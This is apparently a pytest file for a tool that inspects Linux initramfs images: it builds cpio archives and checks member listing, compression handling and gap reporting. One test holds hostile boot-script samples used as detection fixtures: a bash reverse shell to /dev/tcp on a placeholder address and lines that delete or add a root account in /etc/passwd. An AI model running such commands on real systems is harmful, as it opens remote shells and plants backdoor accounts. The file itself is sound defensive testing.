from __future__ import annotations

import bz2
import gzip
import lzma

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.content.archive.budget import Held
from pratique.content.initramfs import (
    InitramfsMember,
    account_line,
    is_initramfs,
    look_into_initramfs,
)
from pratique.content.shell.command import CONNECTS_BACK, GRANTS_ACCESS
from pratique.model import Gap

IMAGE = "/boot/initrd.img-6.1"


def cpio(*members: tuple[str, int, bytes]) -> bytes:
    """An archive of cpio in the form `newc`, as the kernel's documentation describes it."""
    out = bytearray()
    for name, mode, content in (*members, ("TRAILER!!!", 0, b"")):
        named = name.encode() + b"\0"
        values = (1, mode, 0, 0, 1, 7, len(content), 0, 0, 0, 0, len(named), 0)
        out += b"070701" + b"".join(b"%08X" % value for value in values) + named
        out += b"\0" * (-len(out) % 4) + content
        out += b"\0" * (-len(out) % 4)
    return bytes(out)


SCRIPT = ("scripts/local-top/x", 0o100755, b"#!/bin/sh\ntrue\n")
EARLY = cpio(("kernel/x86/microcode/a.bin", 0o100644, b"\1\0\2"))
MAIN = cpio(
    ("./init", 0o100755, b"#!/bin/sh\n. /conf\n"),
    ("bin", 0o120777, b"usr/bin"),
    ("usr/bin/x", 0o100755, b"\x7fELF" + b"\0" * 700_000),
)


def rows(content: bytes):
    return list(look_into_initramfs(Held(content), IMAGE))


def members(content: bytes) -> list[tuple[int, str]]:
    return [(row.number, row.member) for row in rows(content)]


@pytest.mark.parametrize("pack", [bytes, gzip.compress, bz2.compress, lzma.compress])
def test_archives_one_after_the_other(pack):
    image = (
        EARLY + b"\0" * 512 + pack(MAIN + b"\0" * 200) + b"\0" * 64 + gzip.compress(cpio(SCRIPT))
    )
    assert members(image) == [
        (1, "/kernel/x86/microcode/a.bin"),
        (2, "/init"),
        (2, "/bin"),
        (2, "/usr/bin/x"),
        (3, "/scripts/local-top/x"),
    ]


def test_zstd_is_read_too():
    zstd = pytest.importorskip("backports.zstd", reason="the lock brings it")
    image = EARLY + b"\0" * 512 + zstd.compress(MAIN) + zstd.compress(cpio(SCRIPT))
    assert [name for _number, name in members(image)][1:] == [
        "/init",
        "/bin",
        "/usr/bin/x",
        "/scripts/local-top/x",
    ]


@pytest.mark.parametrize("damage", [b"\xff" * 300, b""])
def test_zstd_that_is_damaged_is_a_gap(damage):
    zstd = pytest.importorskip("backports.zstd", reason="the lock brings it")
    (*_, gap) = rows(zstd.compress(MAIN)[:60] + damage)
    assert gap.reason == "an initramfs that is damaged, or none"


def test_a_stream_behind_an_archive_without_its_end():
    cut = EARLY[: EARLY.index(b"TRAILER!!!") - 110]
    image = cut + gzip.compress(cpio(("init", 0o100755, b"#!/bin/sh\n")))
    assert members(image) == [(1, "/kernel/x86/microcode/a.bin"), (2, "/init")]


def test_two_archives_in_one_stream():
    image = gzip.compress(cpio(SCRIPT) + b"\0" * 128 + MAIN)
    assert [name for _number, name in members(image)] == [
        "/scripts/local-top/x",
        "/init",
        "/bin",
        "/usr/bin/x",
    ]


def test_what_is_told_of_a_member():
    init, link, program = rows(MAIN)
    assert (init.kind, init.mode, init.mtime, init.size) == ("script", 0o755, 7, 18)
    assert init.path == f"{IMAGE}!//init"
    assert link.target == "usr/bin"
    assert (program.kind, program.size, len(program.sha256)) == ("elf", 700_004, 64)


@pytest.mark.parametrize(
    ("script", "mark", "line"),
    [
        (b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n", CONNECTS_BACK, 2),
        (b'#!/bin/sh\nsed -i "/^a:/d" ${rootmnt}/etc/passwd\n', GRANTS_ACCESS, 2),
        (b"#!/bin/sh\necho a:x:0:0::/:/bin/sh >> /sysroot/etc/passwd\n", GRANTS_ACCESS, 2),
        (b"#!/bin/sh\ncat ${rootmnt}/etc/passwd\nmount -o ro /dev/a ${rootmnt}\n", None, None),
    ],
)
def test_what_a_script_does(script, mark, line):
    (row,) = rows(cpio(("init", 0o100755, script)))
    assert (row.mark, row.line) == (mark, line)


def test_a_comment_changes_no_account():
    assert account_line("# echo a >> /sysroot/etc/passwd\n") is None


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"\x02\x21\x4c\x18abc", "an initramfs that is compressed with what is not read here"),
        (b"hello", "an initramfs with a part of no known form"),
        (MAIN[:150], "an initramfs that is damaged, or none"),
        (gzip.compress(MAIN)[:-20], "an initramfs that is damaged, or none"),
        (gzip.compress(b"hello" * 50), "an initramfs that is damaged, or none"),
        (gzip.compress(b"\0" * (800 << 20), 1), "an initramfs that is looked into in part"),
    ],
)
def test_what_cannot_be_read_is_a_gap(content, reason):
    assert rows(content)[-1].reason == reason


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/boot/initrd.img-6.1.0", True),
        ("/boot/initramfs-6.1.img", True),
        ("/boot/0123/6.1/initrd", True),
        ("/boot/vmlinuz-6.1", False),
        ("/boot/initramfs-6.1.img.sha512", False),
        ("/srv/boot/initrd.img", False),
    ],
)
def test_where_it_lies(path, expected):
    assert is_initramfs(path) is expected


@given(
    st.binary()
    | st.tuples(st.integers(0, 400), st.binary()).map(lambda t: MAIN[: t[0]] + t[1] + MAIN[t[0] :])
    | st.tuples(st.integers(0, 150), st.binary()).map(lambda t: gzip.compress(MAIN)[: t[0]] + t[1])
)
def test_any_bytes_give_rows_and_gaps(content):
    for row in rows(content):
        assert isinstance(row, InitramfsMember | Gap)
